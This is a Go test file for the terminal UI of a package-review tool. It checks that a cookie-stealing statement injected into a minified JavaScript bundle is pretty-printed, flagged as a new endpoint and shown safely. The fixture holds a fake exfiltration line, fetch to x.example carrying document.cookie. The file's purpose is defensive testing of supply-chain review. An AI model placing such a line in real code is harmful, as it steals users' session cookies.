package ui

import (
	"context"
	"fmt"
	"strconv"
	"strings"
	"testing"

	"github.com/charmbracelet/x/ansi"
	"github.com/muesli/termenv"

	"github.com/stagegate/stagegate/internal/diff"
	"github.com/stagegate/stagegate/internal/review"
	"github.com/stagegate/stagegate/internal/tarball"
)

const injected = `fetch("https://x.example/c?d="+document.cookie);`

// bundleReview is a review whose only file is a minified bundle that
// gains one injected statement in the middle, with a signal on it.
func bundleReview(t testing.TB) *fakeBackend {
	var b strings.Builder
	b.WriteString(`!function(){"use strict";`)
	for i := 0; b.Len() < 3000; i++ {
		n := strconv.Itoa(i)
		b.WriteString("function f" + n + "(a,b){return a+b*" + n + "}var v" + n + "=f" + n + "(" + n + ",2);")
	}
	old := b.String() + "}();"
	mid := strings.Index(old, "var v20=")
	new := old[:mid] + injected + old[mid:]
	pkg := func(s string) *tarball.Package {
		return &tarball.Package{Files: []tarball.File{{Path: "dist/app.min.js", Data: []byte(s), Mode: 0o644}}}
	}
	res, err := diff.Compare(context.Background(), pkg(old), pkg(new), diff.Options{})
	if err != nil || len(res.Files) != 1 || !res.Files[0].Minified {
		t.Fatalf("compare: %v %+v", err, res)
	}
	items := stageItems()
	r := smallReview(items[0])
	r.Diff = res
	r.Files = []review.File{{Path: "dist/app.min.js", Status: "modified", LinesAdded: 1, LinesRemoved: 1}}
	r.Signals = []review.Signal{{ID: "new-endpoint", Severity: "high", Path: "dist/app.min.js", Line: 1,
		Title: "New endpoint: x.example", Detail: "Found: " + new[mid-24:mid+len(injected)+10]}}
	return &fakeBackend{items: items, reviews: map[string]*review.Review{"id-router-152": r}}
}

func openBundle(t *testing.T, w, hgt int, adjust func(*Model)) *harness {
	t.Helper()
	h := newHarnessWith(t, bundleReview(t), w, hgt, adjust)
	h.keys("enter", "n")
	if h.m.rv == nil || h.m.rv.current() == nil {
		t.Fatalf("bundle not open:\n%s", h.screen())
	}
	return h
}

func TestPrettyByDefaultAndToggle(t *testing.T) {
	for _, w := range []int{80, 120} {
		h := openBundle(t, w, 30, nil)
		h.mustSee("pretty-printed for reading", "+1 -0 printed lines")
		if !strings.Contains(h.screen(), "+   "+injected) {
			t.Fatalf("the injected statement is not a line of its own:\n%s", h.screen())
		}
		golden(t, fmt.Sprintf("review-pretty-%d", w), h.screen())

		// Raw, the bundle is what it always was: collapsed, e renders the
		// token diff.
		h.keys("p")
		h.mustSee("compared token by token", "p pretty-prints it", "Collapsed: minified")
		h.mustNotSee("pretty-printed for reading")
		golden(t, fmt.Sprintf("review-pretty-raw-%d", w), h.screen())
		h.keys("e")
		if h.m.rv.pane.fd != h.m.rv.current() {
			t.Fatal("e does not show the token diff")
		}

		h.keys("p")
		h.mustSee("pretty-printed for reading")
	}
}

func TestPrettyKeyOnOtherFiles(t *testing.T) {
	h := openRich(t, 120, 30)
	h.keys("n", "n", "n", "p") // lib/index.js
	h.mustSee("p pretty-prints minified JavaScript and JSON; this file is not one")
}

// A signal's raw line (line 1 of a one-line bundle) is marked on the
// printed line that shows what it found.
func TestPrettySignalJumpMapsLine(t *testing.T) {
	h := openBundle(t, 120, 30, nil)
	h.keys("N", ">")
	p := &h.m.rv.pane
	if p.markRow < 0 {
		t.Fatalf("no line marked:\n%s", h.screen())
	}
	if l, _ := p.rowTexts(p.rows[p.markRow]); !strings.Contains(l, "fetch(") {
		t.Fatalf("marked %q, want the injected line", l)
	}
	// Raw, the same signal marks a line of the token diff.
	h.keys("p")
	if p.markRow < 0 || p.fd != h.m.rv.current() {
		t.Fatalf("raw: marked row %d", p.markRow)
	}
}

// A printed view that arrives for a file the user left is dropped.
func TestPrettyStaleResultDropped(t *testing.T) {
	h := openBundle(t, 120, 30, nil)
	stale := &prettyJob{path: "dist/app.min.js", cancel: func() {}}
	h.send(prettyDoneMsg{job: stale, err: fmt.Errorf("boom")})
	if h.m.rv.rd.failed["dist/app.min.js"] != "" {
		t.Fatal("a stale job's result was applied")
	}
	h.mustSee("pretty-printed for reading")
}

func trueColour(m *Model) { m.st = newStyles(termenv.TrueColor, true) }

// Highlighting colours code, keeps word spans and the escaping of
// untrusted bytes, and is off without colour.
func TestHighlighting(t *testing.T) {
	h := newHarnessWith(t, richBackend(), 120, 30, trueColour)
	h.keys("enter", "n", "n", "n") // lib/index.js
	v := h.m.View()
	kw := h.m.st.syn[1].pre // keyword colour
	if kw == "" || !strings.Contains(v, kw+"function") {
		t.Fatalf("keywords are not coloured:\n%q", v)
	}
	if !strings.Contains(v, h.m.st.addWord.pre) {
		t.Fatal("word-level spans are gone")
	}
	if strings.Contains(v, "\x1b[2J") || strings.Contains(v, "\x1b]0;") || !strings.Contains(ansi.Strip(v), "␛[2J") {
		t.Fatal("a highlighted hostile line reached the terminal unescaped")
	}

	plain := newHarness(t, richBackend(), 120, 30) // NO_COLOR: termenv.Ascii
	plain.keys("enter", "n", "n", "n")
	if v := plain.m.View(); strings.Contains(v, "38;") || strings.Contains(v, "48;") {
		t.Fatalf("colour without colour:\n%q", v)
	}
	if len(plain.m.rv.pane.hl) != 0 {
		t.Fatal("lines were highlighted without colour")
	}
}

func TestHighlightLightTheme(t *testing.T) {
	dark, light := newStyles(termenv.TrueColor, true), newStyles(termenv.TrueColor, false)
	if dark.syn[1].pre == "" || dark.syn[1].pre == light.syn[1].pre {
		t.Fatalf("--theme does not choose the syntax colours: %q %q", dark.syn[1].pre, light.syn[1].pre)
	}
}

func TestPrettyHighlightedGolden(t *testing.T) {
	h := openBundle(t, 120, 30, trueColour)
	if len(h.m.rv.pane.hl) == 0 {
		t.Fatal("the printed view was not highlighted")
	}
	if !strings.Contains(h.m.View(), h.m.st.syn[1].pre) {
		t.Fatal("no keyword colour in the printed view")
	}
	// Colour-stripped, the highlighted view is the plain one.
	golden(t, "review-pretty-120", h.screen())
}
